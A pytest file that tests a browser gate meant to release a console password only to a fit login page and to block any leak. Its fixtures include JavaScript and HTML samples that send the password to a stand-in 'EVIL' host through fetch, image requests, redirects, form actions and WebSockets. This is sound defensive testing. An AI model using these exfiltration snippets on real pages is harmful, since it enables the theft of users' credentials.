"""A console that hashes in its page: the page gets the password late, once, and only if it is fit."""

from __future__ import annotations

import hashlib
import time
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page

from pupitre.browser import dom_gate, fence
from pupitre.browser.dom_gate import DomGate
from pupitre.errors import StateUnusable
from pupitre.evidence import Camera
from pupitre.mock import Response

USER = "000"
SECRET = "S3cr3t-canary"
DIGEST = hashlib.sha256(SECRET.encode()).hexdigest()
# The page posts a hash of the password, as some consoles do instead of TLS.
FORM = """<meta charset=utf-8><form method=post action=/api/login>
  <input name=user><input name=pass type=password><button>Connexion</button></form><script>
  const form = document.forms[0];
  const hash = async text => [...new Uint8Array(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(text)))]
    .map(byte => byte.toString(16).padStart(2, '0')).join('');
  const send = async () => fetch('/api/login', {method: 'POST', headers: {'content-type': 'application/json'},
    body: JSON.stringify({user: form.user.value, hash: await hash(form.pass.value)})})
    .then(answer => answer.text(), () => 'stopped')
    .then(text => document.body.append(Object.assign(document.createElement('p'), {id: 'said', textContent: text})));
  form.onsubmit = event => { event.preventDefault(); send(); };
</script>"""


@pytest.fixture(autouse=True)
def deaf(evil: Any, console: Any) -> None:
    evil.heard.clear()
    console.heard.clear()
    console.pages["/api/login"] = Response.text("Bienvenue")


@pytest.fixture
def context(fenced: Browser) -> Iterator[BrowserContext]:
    """Yield a context as a run has it for such a console."""
    context = fenced.new_context(**fence.CONTEXT)
    fence.put_up(context)
    fence.silence_web_sockets(context)
    context.set_default_timeout(10_000)
    yield context
    context.close()


class Visit:
    """A login page behind the gate."""

    def __init__(self, page: Page, console: Any, on_release: Callable[[], None] | None = None) -> None:
        self.page = page
        self.console = console
        self.values_when_written: list[str] = []
        self.gate = DomGate(
            page.context,
            origin=console.origin,
            user=USER,
            secret=lambda: SECRET,
            login_paths=("/api/login",),
            on_release=on_release or self._released,
        )

    def _released(self) -> None:
        self.values_when_written.append(self.page.locator("[type=password]").first.input_value())

    def type(self) -> None:
        self.page.locator("[name=user]").first.fill(USER)
        self.page.locator("[name=pass]").first.fill(self.gate.placeholder)

    def until(self, happened: Callable[[], object]) -> None:
        end = time.monotonic() + 15
        while not happened():
            assert time.monotonic() < end, self.gate.result
            self.page.context.cookies()

    @property
    def posts(self) -> list[str]:
        return [one for one in self.console.heard if one.startswith("POST")]


Go = Callable[..., Visit]


@pytest.fixture
def go(context: BrowserContext, console: Any, evil: Any) -> Go:
    """Return a function that opens a login page behind the gate and types the placeholder."""

    def visit(html: str, **how: Any) -> Visit:
        console.pages["/login"] = Response.html(html.replace("EVIL", evil.origin))
        page = context.new_page()
        page.goto(f"{console.origin}/login")
        seen = Visit(page, console, **how)
        seen.gate.__enter__()
        seen.type()
        return seen

    return visit


def test_a_page_that_hashes_signs_in_once(go: Go) -> None:
    seen = go(FORM)
    assert seen.gate.put(seen.page)
    assert seen.values_when_written == [seen.gate.placeholder], "sent is on disk before the page has the password"
    seen.page.click("button")
    assert seen.page.locator("#said").inner_text() == "Bienvenue"
    assert seen.posts == [f'POST /api/login {{"user":"000","hash":"{DIGEST}"}}']
    assert (seen.gate.result.released, seen.gate.result.http_status) == (True, 200)


UNFIT = {
    "two password fields": (FORM.replace("<button", "<input type=password><button"), "2 password fields"),
    "a second one in a shadow": (
        FORM + "<div id=h></div><script>h.attachShadow({mode: 'open'}).innerHTML = '<input type=password>'</script>",
        "2 password fields",
    ),
    "no form": (FORM.replace("<form method=post action=/api/login>", "<form></form>"), "in no form"),
    "a form sent by GET": (FORM.replace("method=post", "method=get"), "not sent by POST"),
    "a form sent elsewhere": (FORM.replace("action=/api", "action=EVIL/api"), "sent to another place"),
    "a form sent elsewhere behind a field's name": (
        FORM.replace("action=/api", "action=EVIL/api").replace("<button", "<input name=action value=/api/login><button"),
        "sent to another place",
    ),
    "a base address elsewhere": ("<base href=EVIL/>" + FORM, "begin at another place"),
    "a base address behind a picture's name": ("<base href=EVIL/><img name=baseURI>" + FORM, "begin at another place"),
    "a form of a new window": (FORM.replace("<form", "<form target=_blank"), "opens a window"),
    "a base of a new window": ("<base target=_blank>" + FORM, "opens a window"),
    "a button that sends elsewhere": (FORM.replace("<button", "<button formaction=EVIL/x"), "to another place"),
    "a picture that sends elsewhere": (
        FORM.replace("<button", "<input type=image formaction=EVIL/x><button"), "to another place"),
    "a button that sends by GET": (FORM.replace("<button", "<button formmethod=get"), "does not send it by POST"),
    "a button of a new window": (FORM.replace("<button", "<button formtarget=x"), "a button opens a window"),
    "a field that takes nothing": (
        FORM + "<script>form.pass.oninput = () => form.pass.readOnly = true</script>", "takes nothing"),
    "a field that changes what is typed": (
        FORM + "<script>form.pass.oninput = () => form.pass.value = 'x'</script>", "not the one that was typed into"),
}  # fmt: skip


@pytest.mark.parametrize("case", UNFIT)
def test_a_page_that_is_not_fit_never_has_the_password(case: str, go: Go, evil: Any) -> None:
    html, why = UNFIT[case]
    seen = go(html)
    assert not seen.gate.put(seen.page)
    assert why in str(seen.gate.result.error)
    assert not seen.gate.result.released
    assert seen.values_when_written == []
    assert SECRET not in seen.page.evaluate("[...document.querySelectorAll('input')].map(field => field.value).join()")
    assert (seen.posts, evil.heard) == ([], [])


def test_a_page_that_is_not_the_consoles_never_has_the_password(go: Go, console: Any) -> None:
    seen = go(FORM)
    seen.gate._origin = "https://another.example"
    assert not seen.gate.put(seen.page)
    assert "not a page of the console" in str(seen.gate.result.error)


def test_a_page_that_swaps_the_browsers_functions_is_looked_at_all_the_same(go: Go) -> None:
    """The page's own scripts live in another world than ours."""
    lies = (
        "<script>Document.prototype.querySelectorAll = () => [form.pass];"
        "Object.defineProperty(HTMLFormElement.prototype, 'action', {get: () => location.origin + '/api/login'});</script>"
    )
    seen = go(FORM.replace("action=/api", "action=EVIL/api") + lies)
    assert not seen.gate.put(seen.page)
    assert "another place" in str(seen.gate.result.error)


@pytest.mark.parametrize("check", ["fields.length !== 1", "!within(read(HTMLFormElement, 'action', form))"])
def test_without_a_check_an_unfit_page_would_have_the_password(
    check: str, go: Go, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The controls are the lines of `dom_gate.PUT`."""
    assert check in dom_gate.PUT
    monkeypatch.setattr(dom_gate, "PUT", dom_gate.PUT.replace(check, "false"))
    case = "two password fields" if "fields" in check else "a form sent elsewhere"
    seen = go(UNFIT[case][0])
    assert seen.gate.put(seen.page)
    assert seen.page.locator("[name=pass]").input_value() == SECRET


def test_what_is_not_on_disk_does_not_reach_the_page(go: Go) -> None:
    def full() -> None:
        raise StateUnusable("the disk is full")

    seen = go(FORM, on_release=full)
    assert not seen.gate.put(seen.page)
    assert seen.page.locator("[name=pass]").input_value() == seen.gate.placeholder
    with pytest.raises(StateUnusable, match="full"):
        seen.gate.__exit__(None, None, None)


ELSEWHERE = {
    "in an address": "fetch('/x?' + form.pass.value)",
    "in base64": "fetch('/x?' + btoa('p:' + form.pass.value))",
    "percent by percent": "fetch('/x?' + [...form.pass.value].map(c => '%' + c.charCodeAt(0).toString(16)).join(''))",
    "by another post": "hash(form.pass.value).then(text => fetch('/comments', {method: 'POST', body: text}))",
    "by another method": "fetch('/api/login', {method: 'PUT', body: 'x'})",
    "to another place": "hash(form.pass.value).then(text => fetch('EVIL/' + text, {mode: 'no-cors'}))",
    "as a picture of another place": "hash(form.pass.value).then(text => new Image().src = 'EVIL/' + text)",
    "by leaving": "location = 'EVIL/?' + form.pass.value",
}


@pytest.mark.parametrize("way", ELSEWHERE)
def test_a_page_that_has_the_password_sends_it_nowhere_else(way: str, go: Go, evil: Any, console: Any) -> None:
    seen = go(FORM + f"<script>form.pass.onchange = () => {{ {ELSEWHERE[way]} }}</script>")
    assert not seen.gate.result.aborted
    seen.gate.put(seen.page)
    seen.until(lambda: seen.gate.result.aborted)
    assert evil.heard == []
    assert not any(SECRET in one or DIGEST in one for one in console.heard)
    assert seen.gate.result.released, "what the page had counts as sent"


def test_a_page_that_logs_in_six_times_logs_in_once(go: Go) -> None:
    seen = go(FORM.replace("send(); }", "for (let i = 0; i < 6; i++) send(); }"))
    seen.gate.put(seen.page)
    seen.page.click("button")
    seen.until(lambda: len(seen.gate.result.aborted) == 5)
    seen.page.locator("#said >> nth=5").wait_for()
    assert len(seen.posts) == 1


@pytest.mark.parametrize("status", [307, 303])
def test_a_redirect_of_the_login_is_not_followed_to_another_place(status: int, go: Go, evil: Any, console: Any) -> None:
    console.pages["/api/login"] = Response(status, b"", headers=(("Location", f"{evil.origin}/api/login"),))
    seen = go(FORM)
    seen.gate.put(seen.page)
    seen.page.click("button", no_wait_after=True)
    seen.until(lambda: seen.gate.result.error)
    assert "redirects" in str(seen.gate.result.error)
    assert (len(seen.posts), evil.heard) == (1, [])


def test_a_web_socket_of_the_page_tells_the_console_nothing(go: Go, console: Any) -> None:
    socket = "const ws = new WebSocket(`ws://${location.host}/socket`); ws.onopen = () => ws.send(form.pass.value)"
    seen = go(FORM + f"<script>form.pass.onchange = () => {{ {socket} }}</script>")
    seen.gate.put(seen.page)
    seen.page.click("button")
    seen.page.locator("#said").wait_for()
    assert not any("/socket" in one for one in console.heard)


def test_a_page_that_goes_away_meanwhile_counts_as_told(go: Go, monkeypatch: pytest.MonkeyPatch) -> None:
    """Nobody can say whether the value was set; no message of the browser's is kept, it holds the arguments."""
    seen = go(FORM)
    written: list[int] = []

    def closes() -> None:
        written.append(1)
        seen.page.close()

    seen.gate._on_release = closes
    assert seen.gate.put(seen.page)
    assert seen.gate.result.released
    assert "went away" in str(seen.gate.result.error)
    assert SECRET not in str(seen.gate.result)


def test_a_covered_camera_takes_no_picture(go: Go) -> None:
    """A page that has the password may show it anywhere, not in its field alone."""
    seen = go("<p>nothing that looks like a password</p>" + FORM)
    seen.page.fill("[name=pass]", "")
    camera = Camera(seen.page)
    assert camera.shoot().picture
    camera.cover()
    assert camera.shoot().missing == "covered"
    camera.uncover()
    assert camera.shoot().picture
